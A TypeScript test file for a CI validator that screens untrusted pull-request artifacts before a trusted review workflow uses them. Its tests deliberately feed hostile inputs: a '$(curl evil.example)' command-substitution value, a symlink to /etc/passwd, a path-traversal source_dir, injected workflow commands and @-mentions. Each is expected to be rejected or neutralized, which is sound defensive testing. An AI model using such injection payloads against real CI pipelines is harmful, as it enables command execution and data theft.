import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { ArtifactRejected, checkArtifact, neutralizeMentions, parseMeta } from '../../review/artifact';
import { workflowCommandData } from '../../review/gate';

/**
 * The data a pull request's run uploads for the trusted review (plan-review-comment.yml) is written
 * by the pull request's code: each test hands review/artifact.ts a literal malicious or malformed
 * artifact and expects it refused by name, or a hostile text made harmless.
 */

const HEAD = '0123456789abcdef0123456789abcdef01234567';
const SYNTHESIS = JSON.stringify({ resource: { aws_dynamodb_table: { orders: { name: 'MockOrders' } } } });
const PLAN = JSON.stringify({ format_version: '1.2', resource_changes: [] });

let root: string;
beforeEach(() => {
  root = fs.mkdtempSync(path.join(os.tmpdir(), 'ci-artifact-'));
});
afterEach(() => {
  fs.rmSync(root, { recursive: true, force: true });
});

/** Writes an untrusted folder with these files and returns its path. */
function artifact(files: Record<string, string>): string {
  const dir = path.join(root, 'untrusted');
  fs.mkdirSync(dir);
  for (const [name, text] of Object.entries(files)) fs.writeFileSync(path.join(dir, name), text);
  return dir;
}

const meta = (fields: Record<string, unknown>): string =>
  JSON.stringify({ pullRequest: 42, headSha: HEAD, mode: 'synthesis', ...fields });
const check = (dir: string) => checkArtifact(dir, path.join(root, 'checked'), HEAD);
const rejection = (act: () => unknown): { name: string; message: string } => {
  try {
    act();
  } catch (error) {
    return { name: (error as Error).name, message: (error as Error).message };
  }
  throw new Error('expected a rejection');
};

describe('Artifact: the untrusted data of a pull request run', () => {
  it("accepts a fork's two syntheses and copies them into the checked folder", () => {
    // Prepare
    const dir = artifact({ 'meta.json': meta({}), 'base.tf.json': SYNTHESIS, 'head.tf.json': SYNTHESIS });
    // Act
    const result = check(dir);
    // Assess
    expect(result).toEqual({ pullRequest: 42, headSha: HEAD, mode: 'synthesis' });
    expect(fs.readdirSync(path.join(root, 'checked')).sort()).toEqual(['base.tf.json', 'head.tf.json', 'meta.json']);
  });

  it("accepts a same-repository pull request's plan with its head synthesis", () => {
    const dir = artifact({ 'meta.json': meta({ mode: 'plan' }), 'plan.json': PLAN, 'head.tf.json': SYNTHESIS });
    expect(check(dir)).toEqual({ pullRequest: 42, headSha: HEAD, mode: 'plan' });
  });

  it('refuses a file larger than its limit before reading it', () => {
    const dir = artifact({
      'meta.json': meta({}),
      'base.tf.json': SYNTHESIS,
      'head.tf.json': `{"resource":{},"pad":"${'x'.repeat(5 * 1024 * 1024)}"}`,
    });
    expect(rejection(() => check(dir))).toEqual({
      name: 'ArtifactRejected',
      message:
        "the artifact's head.tf.json is 5242904 bytes, more than the 5242880 accepted. Fix: upload the file the workflow writes.",
    });
  });

  it('refuses a meta.json padded past 1 KiB', () => {
    const dir = artifact({
      'meta.json': `${meta({})}${' '.repeat(1024)}`,
      'base.tf.json': SYNTHESIS,
      'head.tf.json': SYNTHESIS,
    });
    expect(rejection(() => check(dir)).message).toBe(
      "the artifact's meta.json is 1114 bytes, more than the 1024 accepted. Fix: upload the file the workflow writes.",
    );
  });

  it('refuses a file of another name, such as a review to post as it is', () => {
    const dir = artifact({
      'meta.json': meta({}),
      'base.tf.json': SYNTHESIS,
      'head.tf.json': SYNTHESIS,
      'review.md': 'no risky change',
    });
    expect(rejection(() => check(dir)).message).toBe(
      'the artifact holds "review.md", which is not one of meta.json, base.tf.json, head.tf.json, plan.json. Fix: upload only those files.',
    );
  });

  it('refuses a hidden file', () => {
    const dir = artifact({
      'meta.json': meta({}),
      'base.tf.json': SYNTHESIS,
      'head.tf.json': SYNTHESIS,
      '.npmrc': 'x',
    });
    expect(rejection(() => check(dir)).message).toBe(
      'the artifact holds ".npmrc", which is not one of meta.json, base.tf.json, head.tf.json, plan.json. Fix: upload only those files.',
    );
  });

  it('refuses a symbolic link under an expected name, which would read a file of the trusted runner', () => {
    const dir = artifact({ 'meta.json': meta({}), 'base.tf.json': SYNTHESIS });
    fs.symlinkSync('/etc/passwd', path.join(dir, 'head.tf.json'));
    expect(rejection(() => check(dir))).toEqual({
      name: 'ArtifactRejected',
      message:
        "the artifact's head.tf.json is not a regular file. Fix: upload the file itself, not a link or a folder.",
    });
  });

  it('refuses a folder under an expected name', () => {
    const dir = artifact({ 'meta.json': meta({}), 'base.tf.json': SYNTHESIS });
    fs.mkdirSync(path.join(dir, 'head.tf.json'));
    expect(rejection(() => check(dir)).message).toBe(
      "the artifact's head.tf.json is not a regular file. Fix: upload the file itself, not a link or a folder.",
    );
  });

  it('refuses an archive source_dir that climbs out of the stack folder', () => {
    const head = JSON.stringify({
      resource: {},
      data: { archive_file: { bundle: { source_dir: '${path.module}/../../../../home/runner' } } },
    });
    const dir = artifact({ 'meta.json': meta({}), 'base.tf.json': SYNTHESIS, 'head.tf.json': head });
    expect(rejection(() => check(dir)).message).toBe(
      'head.tf.json data.archive_file."bundle" has a source_dir outside the stack, "${path.module}/../../../../home/runner". Fix: keep source_dir under ${path.module}.',
    );
  });

  it('refuses a synthesis that is not JSON, quoting the parser on one line', () => {
    const dir = artifact({
      'meta.json': meta({}),
      'base.tf.json': 'no risky change\n::error::x',
      'head.tf.json': SYNTHESIS,
    });
    const { name, message } = rejection(() => check(dir));
    expect(name).toBe('ArtifactRejected');
    expect(message.startsWith('base.tf.json is not JSON: "')).toBe(true);
    expect(message).not.toContain('\n');
  });

  it('refuses JSON that is not a synthesis', () => {
    const dir = artifact({ 'meta.json': meta({}), 'base.tf.json': '[]', 'head.tf.json': SYNTHESIS });
    expect(rejection(() => check(dir)).message).toBe(
      'base.tf.json must be a synthesized cdk.tf.json, an object with a "resource" object. Fix: upload cdktf.out/stacks/<stack>/cdk.tf.json.',
    );
  });

  it('refuses a plan without a format_version', () => {
    const dir = artifact({
      'meta.json': meta({ mode: 'plan' }),
      'plan.json': '{"verdict":"no risky change"}',
      'head.tf.json': SYNTHESIS,
    });
    expect(rejection(() => check(dir)).message).toBe(
      'plan.json must be a plan JSON object with a string "format_version". Fix: upload terraform show -json tfplan.',
    );
  });

  it('refuses a plan-mode artifact that also carries a base synthesis', () => {
    const dir = artifact({
      'meta.json': meta({ mode: 'plan' }),
      'plan.json': PLAN,
      'head.tf.json': SYNTHESIS,
      'base.tf.json': SYNTHESIS,
    });
    expect(rejection(() => check(dir)).message).toBe(
      'mode plan needs exactly head.tf.json, meta.json, plan.json, received ["base.tf.json","head.tf.json","meta.json","plan.json"]. Fix: upload those files.',
    );
  });

  it('refuses data of a commit other than the one the workflow run is of', () => {
    const dir = artifact({
      'meta.json': meta({ headSha: 'f'.repeat(40) }),
      'base.tf.json': SYNTHESIS,
      'head.tf.json': SYNTHESIS,
    });
    expect(rejection(() => check(dir)).message).toBe(
      `meta.json headSha is ${'f'.repeat(40)}, but the workflow run is of "${HEAD}". Fix: upload the data of the commit the run checked out.`,
    );
  });

  it('refuses an artifact without meta.json', () => {
    const dir = artifact({ 'base.tf.json': SYNTHESIS, 'head.tf.json': SYNTHESIS });
    expect(rejection(() => check(dir)).message).toBe(
      'the artifact has no meta.json. Fix: upload meta.json with the pull request number, head commit and mode.',
    );
  });

  it('writes nothing to the checked folder when the artifact is refused', () => {
    const dir = artifact({ 'meta.json': meta({}), 'base.tf.json': '[]', 'head.tf.json': SYNTHESIS });
    rejection(() => check(dir));
    expect(fs.existsSync(path.join(root, 'checked'))).toBe(false);
  });
});

describe('Artifact: meta.json', () => {
  it('refuses an extra field, such as a verdict', () => {
    expect(rejection(() => parseMeta(meta({ verdict: 'no risky change' })))).toEqual({
      name: 'ArtifactRejected',
      message:
        'meta.json must have exactly the fields headSha, mode, pullRequest, received ["headSha","mode","pullRequest","verdict"]. Fix: write no other field.',
    });
  });

  it.each([
    ['a string', '42'],
    ['a fraction', 4.2],
    ['zero', 0],
    ['a negative number', -1],
  ])('refuses a pull request number that is %s', (_case, pullRequest) => {
    expect(rejection(() => parseMeta(meta({ pullRequest }))).message).toBe(
      `meta.json pullRequest must be a positive integer, received ${JSON.stringify(pullRequest)}. Fix: write github.event.pull_request.number.`,
    );
  });

  it('refuses a head commit that is not 40 lowercase hex digits, such as a shell injection', () => {
    expect(rejection(() => parseMeta(meta({ headSha: '$(curl evil.example)' }))).message).toBe(
      'meta.json headSha must be 40 lowercase hex digits, received "$(curl evil.example)". Fix: write github.event.pull_request.head.sha.',
    );
  });

  it('refuses an unknown mode', () => {
    expect(rejection(() => parseMeta(meta({ mode: 'review' }))).message).toBe(
      'meta.json mode must be "plan" or "synthesis", received "review". Fix: write one of the two.',
    );
  });

  it('refuses an array', () => {
    expect(rejection(() => parseMeta('[42]')).message).toBe(
      'meta.json must be a JSON object, received [42]. Fix: write {"pullRequest":N,"headSha":"<40 hex>","mode":"plan"|"synthesis"}.',
    );
  });

  it('has a stable error name', () => {
    expect(new ArtifactRejected('x').name).toBe('ArtifactRejected');
  });
});

describe('Posting untrusted text', () => {
  it('leaves no @-mention of a user or a team in the comment', () => {
    expect(neutralizeMentions('aws_iam_role.x: cc @octocat and @octo-org/admins')).toBe(
      'aws_iam_role.x: cc @\u200Boctocat and @\u200Bocto-org/admins',
    );
  });

  it('escapes line breaks in a gate message, so an address cannot start a workflow command of its own', () => {
    expect(workflowCommandData('aws_iam_role.x\n::add-mask::secret 100%')).toBe(
      'aws_iam_role.x%0A::add-mask::secret 100%25',
    );
  });
});
